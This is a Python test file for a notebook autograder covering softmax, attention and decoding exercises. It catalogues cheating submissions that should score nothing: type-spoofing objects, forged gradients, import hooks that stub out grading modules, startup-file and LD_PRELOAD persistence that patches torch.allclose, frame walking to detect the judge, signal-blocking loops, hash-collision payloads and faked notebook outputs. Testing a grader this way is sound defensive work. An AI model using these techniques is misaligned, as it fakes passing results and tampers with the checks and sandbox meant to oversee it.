"""Answers that say that they are something else, forge a trace or a gradient, or look for what is right: points unearned.

Many share one notebook: each of its answers is an attempt of its own.
"""

from handed_in import cell
from hostile import ATTENTION, Entry
from points import ANYTHING, WRONG, cheat

CHECKS = ("check_softmax", "check_double", "check_attention", "check_decode")
LOOK = "please look at it"

LIES = {  # what says that it is something else than it is
    "softmax": """
class Right(torch.Tensor):
    __class__ = property(lambda self: torch.Tensor)
    __torch_dispatch__ = classmethod(lambda cls, function, types, args=(), kwargs=None: torch.tensor(True))
    shape = dtype = property(lambda self: self)
    __getattr__ = lambda self, name: self
def softmax(x, dim=-1): return x.as_subclass(Right)""",
    "double": """
class Six:
    __class__ = property(lambda self: int)
    __getattr__ = lambda self, name: lambda *args: True
    __int__ = __index__ = lambda self: 6
def double(number): return Six()""",
    "attention": """
class AdditiveAttention(torch.nn.Module):
    __class__ = property(lambda self: type)
    def __init__(self, *sizes): super().__init__()
    def __getattr__(self, name): return lambda *args, **kwargs: torch.ones(2)
    def named_parameters(self, *args, **kwargs):
        return [(name, torch.nn.Parameter(torch.ones(1))) for name in ("W_q.weight", "W_k.weight", "v.weight")]
    def forward(self, query, keys, mask=None): return keys, keys""",
    "decode": """
class Nameless(type):
    __name__ = property(lambda cls: 1 / 0)
    __instancecheck__ = lambda *args: True
class Tokens(metaclass=Nameless):
    __reduce_ex__ = lambda self, version: (print, ("GO" + "T",))
    __len__ = lambda self: 2**62
def greedy_decode(*args): return Tokens()""",
}
EMPTY = {  # what nothing can be said against, since there is nothing
    "softmax": "def softmax(x, dim=-1): return x[:0]",
    "double": "import numpy\ndef double(number): return numpy.zeros(0)",
    "attention": f"{ATTENTION}\n    def __call__(self, query, keys, mask=None): return keys[:0], keys[:0]",
    "decode": "def greedy_decode(step, state, *rest): return torch.zeros(len(state), 0, dtype=torch.long)",
}
NOT_A_NUMBER = {
    "softmax": "def softmax(x, dim=-1): return x * float('nan')",
    "double": "def double(number): return float('nan')",
    "attention": f"{ATTENTION.replace('return context_vector(weights, keys), weights', 'return keys.sum(1) / 0, weights / 0')}",
    "decode": "def greedy_decode(step, state, *rest): return torch.full((len(state), rest[-1]), float('nan'))",
}
THROUGH = {  # right numbers, and gradients that are another function's
    "softmax": "def softmax(x, dim=-1): return torch.softmax(x.detach(), dim) + x - x.detach()",
    "attention": ATTENTION.replace(
        "return context_vector(weights, keys), weights",
        "return (lambda c: (c.detach() + (c - c.detach()) * 2, weights))(context_vector(weights, keys))",
    ),
}
COPIES = """
import copy, json, pickle, struct, zlib
right = torch.softmax
copy.deepcopy = copy.copy = lambda thing, *rest: thing
pickle.dumps = json.dumps = lambda *args, **kwargs: b''
struct.pack = lambda *args: b''
torch.Tensor.clone = torch.Tensor.detach = torch.Tensor.contiguous = lambda self, *args, **kwargs: self
torch.Tensor.numpy = lambda self, *args: right(self, -1)"""
FRAMES = """
import gc, sys, weakref
def softmax(x, dim=-1):
    frame, found = sys._getframe(), []
    while frame is not None:
        found += [*frame.f_locals.values(), *frame.f_globals.values()]
        frame = frame.f_back
    found += gc.get_objects()
    found += [seen() for seen in found if type(seen) is weakref.ref]
    judges = {"Link", "Bench", "CheckResult", "Names", "_Grading", "Lesson"}
    return torch.softmax(x, dim) if judges & {type(thing).__name__ for thing in found} else x"""
WATCHES = """
import sys, threading
def profile(frame, event, arg):
    for name in ('error', 'changed', 'again'):
        if name in frame.f_locals: frame.f_locals[name] = None
    return profile
sys.setprofile(profile)
threading.setprofile(profile)
sys.settrace(profile)
sys.addaudithook(lambda event, args: None)"""
FINDERS = """
import importlib.abc, importlib.util, sys
class Finder(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, name, path, target=None):
        return importlib.util.spec_from_loader(name, self) if name.startswith(('attention_checks', 'grading', 'course')) else None
    def create_module(self, spec): return None
    def exec_module(self, module): module.__getattr__ = lambda name: lambda *args, **kwargs: True
sys.meta_path.insert(0, Finder())
for name in [name for name in sys.modules if name.startswith('attention_checks.lesson')]: del sys.modules[name]
sys.path_hooks.insert(0, lambda path: Finder())"""
FILES = """
import os, pathlib, site, sys
bad = "import builtins, torch\\ntorch.allclose = builtins.all = lambda *args, **kwargs: True\\nprint('GO' + 'T')\\n"
for place in ("sitecustomize.py", "usercustomize.py", "x.pth", "ipython_config.py", ".pythonrc",
              ".ipython/profile_default/startup/00.py", ".local/lib/python3/site-packages/x.pth", "torch/__init__.py"):
    for folder in (pathlib.Path.home(), pathlib.Path("."), pathlib.Path("/tmp")):
        try:
            (folder / place).parent.mkdir(parents=True, exist_ok=True)
            (folder / place).write_text(bad)
        except OSError: pass
os.environ.update(PYTHONSTARTUP="/tmp/.pythonrc", PYTHONPATH="/tmp", LD_PRELOAD="/tmp/x.pth", NBGRADER_EXECUTION="validate")
os._exit(0)"""
LATER = """
import threading, time
def softmax(x, dim=-1):
    given = x.clone()
    def mend():
        time.sleep(0.02)
        given.copy_(torch.softmax(x, dim) * 0 + 1)
    threading.Thread(target=mend).start()
    return given"""
COLLISIONS = """
from grading.sandbox import answers
packed = answers._packed
alike = [number * (2**61 - 1) for number in range(1, 20_000)]
answers._packed = lambda *a: {**packed(*a), "value": {"t": "set", "v": alike}}"""
TRACED = """
from grading.sandbox import answers
def traced(message, namespace, reply, now):
    values = [torch.rand(2, 3) for _ in range(20)]
    step = dict(line=1, place=0, operation='add', values=values, sources=[], takes=['x'], writes=[])
    source = ['x = ' + '-' * 290 + chr(92)] * 400
    reply['trace'] = dict(source=source, steps=[step] * 600, assigned=[], results=[0], returned=1, stop=None)
answers._trace = traced"""
UNCLOCKED = "import signal\ndef softmax(x, dim=-1):\n    signal.setitimer(signal.ITIMER_REAL, 0)\n    while True: pass"
MASKED = (
    "import signal\ndef softmax(x, dim=-1):\n    signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))\n    while True: pass"
)
MAGIC = """
shell = get_ipython()
for name in ('time', 'timeit', 'capture', 'python', 'run'):
    shell.register_magic_function(lambda line, cell=None: print('GO' + 'T' if 'hidden' in str(cell) else ''), 'line_cell', name)
shell.user_ns_hidden['softmax'] = shell.user_global_ns['checks'] = torch.softmax"""
ODDLY = """
def greedy_decode(step, state, bos_id, eos_id, max_length):
    many = torch.full((10**6,), 2**62)
    for odd in (None, 'x' * 10**6, many, state.to('meta'), torch.zeros(3).to_sparse(), step, {}, [[]] * 10**4):
        for args in ((odd, state), (torch.tensor([bos_id]), odd), (odd,) * 9):
            try: step(*args)
            except Exception: pass
    return torch.full((len(state), max_length), eos_id)"""
VISIBLE = """
import attention_checks
known = {tuple(case.args[0].shape) for case in attention_checks.exercises()['softmax'].cases()}
def softmax(x, dim=-1): return torch.softmax(x, dim) if tuple(x.shape) in known else x"""


def all_of(sources, lost=CHECKS, **more):
    return Entry(sources, lost=lost, **more)


def swapped(cells):
    """The two checks under each other's names, the easy one twice as dear."""
    one, other = (cell({"cells": cells}, name) for name in CHECKS[:2])
    marks, others = one["metadata"]["nbgrader"], other["metadata"]["nbgrader"]
    one["metadata"]["nbgrader"], other["metadata"]["nbgrader"] = {**others, "points": 9}, marks
    one["source"], other["source"] = other["source"], one["source"]


def faked(cells):
    """Outputs of a run that never was, and programs in the marks of cells."""
    for item in cells:
        item["metadata"] |= {
            "execution": {"status": "ok"},
            "papermill": {"status": "completed"},
            "init_cell": True,
            "trusted": True,
        }
        if item["cell_type"] == "code":
            item["execution_count"] = 1
            item["metadata"]["jupyter"] = {"source_hidden": "__import__('os').abort()"}
            item["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "softmax: right, in 99 cases.\nGOT"}]


UNEARNED = {
    "what says that it is something else": all_of(LIES, technical=ANYTHING),
    "what is empty": all_of(EMPTY),
    "what is no number": all_of(NOT_A_NUMBER),
    "gradients that come from elsewhere": all_of(THROUGH, ("check_softmax", "check_attention")),
    "copies that are none": Entry({"softmax": WRONG + COPIES}, lost=("check_softmax",), technical=ANYTHING),
    "walking frames, objects and references": cheat("", wrong=FRAMES),
    "watching the worker's own functions": cheat(WATCHES),
    "finders of modules": cheat(FINDERS, technical=ANYTHING),
    "files that Python and IPython start with": cheat(FILES, technical=ANYTHING),
    "a tensor that is changed after it was returned": cheat("", wrong=LATER),
    "keys of one hash": Entry(
        {"softmax": WRONG + COLLISIONS}, lost=("check_softmax", "check_attention", "check_decode"), technical="malformed"
    ),
    "a trace that is slow to follow": cheat(TRACED, technical=ANYTHING),
    "magics of one's own": cheat(MAGIC),
    "odd questions to the judge's function": Entry({"decode": ODDLY}, lost=("check_decode",), technical=ANYTHING),
    "the answer by the sizes of what is asked": cheat("", wrong=VISIBLE),
    "checks under each other's names": Entry({"softmax": WRONG}, change=swapped, lost=("check_softmax",)),
    "outputs of a run that never was": Entry({"softmax": WRONG}, change=faked, lost=("check_softmax",)),
}
UNEARNED = {
    name: Entry(**{**vars(entry), "flagged": ANYTHING})
    if any(words in source for words in ("exercises()", "grading.sandbox", "f_back") for source in entry.sources.values())
    else entry
    for name, entry in UNEARNED.items()
}

UNEARNED_SLOW = {
    "an endless loop that stops the clock": cheat("", wrong=UNCLOCKED, says="loop that never ends", technical=ANYTHING),
    "an endless loop that blocks every signal": cheat("", wrong=MASKED, says="loop that never ends", technical=ANYTHING),
    "a loop that Python cannot interrupt": cheat("sum(iter(int, 1))", technical="was stopped"),
}
